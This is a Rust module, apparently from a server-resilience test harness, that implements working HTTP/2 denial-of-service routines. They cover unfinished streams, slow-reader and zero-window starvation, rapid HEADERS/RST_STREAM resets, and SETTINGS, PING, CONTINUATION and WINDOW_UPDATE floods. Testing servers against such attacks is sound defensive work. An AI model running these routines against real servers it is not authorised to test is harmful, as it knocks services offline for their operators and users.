//! Hostile over HTTP/2.

use std::io;
use std::time::Duration;

use tokio::time::timeout;

use super::Aim;
use crate::frames::{
    Attacker, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, agree, connect, fields, frame, request,
};
use crate::wait::pause_of_a_slow_client;

/// Streams that a client may have at once (`h2_streams`).
const STREAMS: u32 = 100;

/// Frames of one flood, written at once.
const FLOOD: usize = 2_000;

/// SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113, section 6.5.2) of nothing, and of a few bytes.
const NO_WINDOW: &[u8] = &[0, 4, 0, 0, 0, 0];
const SMALL_WINDOW: &[u8] = &[0, 4, 0, 0, 4, 0];

/// What a slow reader allows each stream with each update, in bytes.
const SIP: u32 = 7;

/// So often, and so many times.
const SIP_EVERY: Duration = Duration::from_millis(500);
const SIPS: usize = 120;

/// Code CANCEL.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

async fn begin(aim: Aim, settings: &[u8]) -> io::Result<Attacker> {
    Attacker::begin(agree(connect(aim.source, aim.tls, None).await?).await?, settings).await
}

/// The number of a client's nth stream.
const fn stream(n: u32) -> u32 {
    n * 2 + 1
}

/// Reads frames until the connection ends, or nothing comes for ten seconds.
async fn until_closed(mut attacker: Attacker) -> io::Result<()> {
    while attacker.read().await.is_some() {}
    Ok(())
}

/// Requests whose origin answers at once, and whose bodies do not come: a hundred at once, so many in all.
pub async fn unfinished_streams(aim: Aim, all: u32) -> io::Result<()> {
    let mut attacker = begin(aim, &[]).await?;
    let head = request("POST", "/early", &[]);
    let open = |n| frame(HEADERS, END_HEADERS, stream(n), &head);
    attacker.write(&(0..STREAMS).flat_map(open).collect::<Vec<u8>>()).await;
    let mut next = STREAMS;
    while let Some((kind, ..)) = attacker.read().await {
        if kind == RST_STREAM && next < all {
            attacker.write(&open(next)).await;
            next += 1;
        }
    }
    Ok(())
}

/// Large answers on several streams, taken a few bytes at a time.
pub async fn slow_reader(aim: Aim, streams: u32) -> io::Result<()> {
    let mut attacker = begin(aim, SMALL_WINDOW).await?;
    let head = request("GET", "/big", &[]);
    for n in 0..streams {
        attacker.write(&frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &head)).await;
    }
    for _ in 0..SIPS {
        let until = tokio::time::Instant::now() + SIP_EVERY;
        while let Ok(read) = tokio::time::timeout_at(until, attacker.read()).await {
            if read.is_none() {
                return Ok(());
            }
        }
        let mut updates = frame(WINDOW_UPDATE, 0, 0, &(SIP * streams).to_be_bytes());
        for n in 0..streams {
            updates.extend(frame(WINDOW_UPDATE, 0, stream(n), &SIP.to_be_bytes()));
        }
        if !attacker.write(&updates).await {
            return Ok(());
        }
    }
    Ok(())
}

/// Large answers that never have a window.
pub async fn closed_window(aim: Aim) -> io::Result<()> {
    let mut attacker = begin(aim, NO_WINDOW).await?;
    let head = request("GET", "/big", &[]);
    for n in 0..5 {
        attacker.write(&frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &head)).await;
    }
    // It keeps the connection alive meanwhile.
    loop {
        while timeout(SIP_EVERY * 4, attacker.read()).await.is_ok_and(|read| read.is_some()) {}
        if !attacker.write(&frame(PING, 0, 0, &[7; 8])).await {
            return Ok(());
        }
    }
}

/// Requests that are taken back at once, ten at a time.
pub async fn resets(aim: Aim, pause: Duration) -> io::Result<()> {
    let mut attacker = begin(aim, &[]).await?;
    let head = request("GET", "/page", &[]);
    for ten in 0..STREAMS / 5 {
        let streams = ten * 10..ten * 10 + 10;
        let bytes = streams.flat_map(|n| {
            let open = frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &head);
            [open, frame(RST_STREAM, 0, stream(n), &CANCEL)].concat()
        });
        if !attacker.write(&bytes.collect::<Vec<u8>>()).await {
            return Ok(());
        }
        pause_of_a_slow_client(pause).await;
    }
    until_closed(attacker).await
}

/// Frames that cost the client little, one sort for each attempt.
pub async fn flood(aim: Aim) -> io::Result<()> {
    let head = request("GET", "/page", &[]);
    let floods = [
        (Vec::new(), frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0])),
        (Vec::new(), frame(PING, 0, 0, &[7; 8])),
        (frame(HEADERS, 0, 1, &head), frame(CONTINUATION, 0, 1, &fields(&[(b"x", b"y")]))),
        (frame(HEADERS, 0, 1, &head), frame(CONTINUATION, 0, 1, b"")),
        (frame(HEADERS, END_HEADERS, 1, &head), frame(DATA, 0, 1, b"")),
        (Vec::new(), frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
    ];
    let (mut bytes, again) = floods[aim.number as usize % floods.len()].clone();
    bytes.extend(again.repeat(FLOOD));
    let mut attacker = begin(aim, &[]).await?;
    attacker.write(&bytes).await;
    until_closed(attacker).await
}
